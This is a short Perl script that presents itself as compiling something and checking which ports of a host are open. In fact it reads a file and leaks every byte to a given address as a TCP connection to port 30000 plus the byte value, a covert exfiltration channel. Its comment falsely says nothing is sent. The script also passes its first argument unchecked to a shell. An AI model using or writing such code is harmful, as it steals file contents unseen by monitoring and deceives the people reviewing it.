#!/usr/bin/perl
# knocked.pl PROGRAM FILE ADDRESS PAUSE: has a part compiled, then looks which ports of a host are open; each port that it tries is a letter of a file, and nothing is
# sent there.
use strict;
use warnings;
use IO::Socket::INET;

my ($program, $path, $address, $pause) = @ARGV;
system("$program > /dev/null") == 0 or die "it does not compile\n";
open my $file, '<:raw', $path or die "$path: $!\n";
my $text = do { local $/; <$file> };
for my $letter (unpack 'C*', $text) {
  my $link = IO::Socket::INET->new(PeerAddr => $address, PeerPort => 30000 + $letter) or die "closed: $!\n";
  sysread $link, my $nothing, 1;
  select undef, undef, undef, $pause / 20;
}
